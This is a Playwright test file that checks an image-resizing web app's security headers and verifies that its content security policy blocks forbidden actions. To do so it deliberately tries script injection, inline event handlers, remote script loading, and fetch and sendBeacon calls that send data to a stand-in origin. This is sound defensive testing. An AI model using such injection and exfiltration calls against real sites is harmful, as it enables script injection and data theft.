// The security headers of the page and the core, and what the content security policy forbids. served.spec.ts checks
// the headers of all other files.
import { expect, type Response } from '@playwright/test';
import { App } from './support/app';
import { pictureFile } from './support/files';
import { test } from './support/test';

test.use({ breaksPolicy: true });

/**
 * Another origin, which the policy does not allow. The test answers all requests to it, so that only the policy can
 * stop them.
 */
const OTHER_ORIGIN = 'https://elsewhere.example/';

test('all responses for the page, including the core, have the same security headers', async ({ page }) => {
  const answers: Response[] = [];
  page.on('response', (response) => answers.push(response));
  await page.goto('/');
  await expect.poll(() => answers.filter((each) => each.url().endsWith('.wasm')).length).toBe(1);
  const policies = new Map<string | undefined, string>();
  for (const answer of answers) {
    const headers = await answer.allHeaders();
    expect(headers, answer.url()).toMatchObject({
      'cross-origin-opener-policy': 'same-origin',
      'referrer-policy': 'no-referrer',
      'x-content-type-options': 'nosniff',
      'permissions-policy': expect.stringContaining('geolocation=()'),
    });
    policies.set(headers['content-security-policy'], answer.url());
  }
  expect([...policies.keys()]).toEqual([expect.stringMatching(/^default-src 'none'; script-src 'self' /)]);
  const core = answers.find((each) => each.url().endsWith('.wasm'));
  expect(await core?.headerValue('content-type')).toBe('application/wasm');
});

/**
 * Tries what the policy forbids, in the page or in a worker. `outcomes` returns the violated directives, and the
 * attempts that succeeded.
 */
async function tryForbidden(otherOrigin: string): Promise<void> {
  const outcomes: string[] = [];
  Object.assign(self, { outcomes });
  self.addEventListener('securitypolicyviolation', (event) =>
    outcomes.push((event as SecurityPolicyViolationEvent).effectiveDirective),
  );
  await fetch(otherOrigin, { method: 'POST', body: 'picture', mode: 'no-cors' }).catch(() => {});
  // The text is compiled in a later task, because the browser allows it in the task in which Playwright evaluates code.
  setTimeout(() => {
    try {
      new Function('')();
      outcomes.push('text was compiled');
    } catch {}
  });
  await import(otherOrigin).catch(() => {});
  if ('document' in self) {
    const append = <Name extends keyof HTMLElementTagNameMap>(
      name: Name,
      set: Partial<HTMLElementTagNameMap[Name]>,
    ) => {
      // The policy requires trusted types, so an assignment of text as HTML or as a script throws an exception.
      try {
        document.body.append(Object.assign(document.createElement(name), set));
      } catch {}
    };
    append('script', { textContent: 'window.injected = true' });
    append('script', { src: otherOrigin });
    append('img', { src: otherOrigin });
    append('iframe', { src: otherOrigin });
    append('div', { innerHTML: '<b onclick="window.injected = true">b</b>' });
    document.body.querySelector<HTMLElement>('[onclick]')?.click();
    try {
      document.body.setAttribute('onclick', 'window.injected = true');
    } catch {}
    document.body.click();
    navigator.sendBeacon(otherOrigin, 'picture');
  }
}

/** Runs in the page or in a worker. Returns what `tryForbidden` has caused so far: a violation is reported later. */
function outcomes(): string[] {
  const all: readonly string[] = Reflect.get(self, 'outcomes');
  // A page has the policy twice, in the header of its response and in its HTML, so it reports a violation twice.
  return [...new Set([...all, ...('injected' in self ? ['a script ran'] : [])])].sort();
}

test('injected scripts do not run, and the page and its worker cannot reach another origin', async ({
  page,
}) => {
  // The test records responses, because Playwright also reports a request that the policy blocks. It gets no response.
  const responses: string[] = [];
  page.on('response', (response) => {
    if (response.url().startsWith(OTHER_ORIGIN)) responses.push(response.url());
  });
  await page.route(`${OTHER_ORIGIN}**`, (route) => route.fulfill({ body: 'window.injected = true' }));
  const app = new App(page);
  await app.open(await pictureFile('picture.png', 60, 40));
  const [worker] = page.workers();
  await worker?.evaluate(tryForbidden, OTHER_ORIGIN);
  await page.evaluate(tryForbidden, OTHER_ORIGIN);
  const ofWorker = ['connect-src', 'require-trusted-types-for', 'script-src-elem'];
  await expect.poll(() => worker?.evaluate(outcomes)).toEqual(ofWorker);
  const ofPage = ['connect-src', 'frame-src', 'img-src', 'require-trusted-types-for', 'script-src-elem'];
  await expect.poll(() => page.evaluate(outcomes)).toEqual(ofPage);
  // The app still works.
  await app.setSize(30, 20);
  await app.resize.click();
  await expect(app.toast('Image resized to 30x20')).toBeVisible();
  // No forbidden attempt has succeeded in the meantime.
  expect(await worker?.evaluate(outcomes)).toEqual(ofWorker);
  expect(await page.evaluate(outcomes)).toEqual(ofPage);
  expect(responses).toEqual([]);
});
